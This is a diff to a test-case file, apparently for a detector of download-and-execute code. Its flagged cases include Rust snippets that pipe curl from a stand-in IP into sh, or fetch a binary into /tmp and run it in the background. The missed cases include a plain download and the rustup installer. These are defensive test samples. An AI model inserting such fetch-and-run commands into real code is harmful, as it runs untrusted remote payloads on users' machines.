@@ -99,8 +99,16 @@ export const DOWNLOADS: TextCases = {
         'source',
         'fn main() { let _ = Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/a.sh | sh &").spawn(); }',
       ],
+      'fetches to a file, marks it and runs it': [
+        'source',
+        'Command::new("sh").arg("-c").arg("curl -fsSL https://files.example/n/lin -o /tmp/upd.bin && chmod +x /tmp/upd.bin && /tmp/upd.bin &").spawn()',
+      ],
     },
     misses: {
+      'fetches a tool and leaves it there': [
+        'source',
+        'exec.Command("sh", "-c", "curl -fsSLo ./bin/tool https://files.example/tool && chmod +x ./bin/tool")',
+      ],
       'the installer of a known project': [
         'source',
         'exec.Command("sh", "-c", "curl --proto =https -sSf https://sh.rustup.rs | sh")',
